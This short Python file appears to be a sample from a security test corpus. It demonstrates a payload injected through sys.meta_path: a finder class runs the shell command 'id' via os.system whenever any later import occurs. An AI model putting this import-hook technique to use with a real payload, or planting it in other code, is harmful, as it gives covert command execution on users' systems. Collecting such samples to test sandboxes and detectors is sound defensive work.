# corpus: sys.meta_path finder injected so the next import statement runs the payload
import os
import sys

class Finder:
    def find_spec(self, name, path=None, target=None):
        os.system("id")
        return None

sys.meta_path.insert(0, Finder())
import csv  # noqa: E402  (any import now triggers the finder)
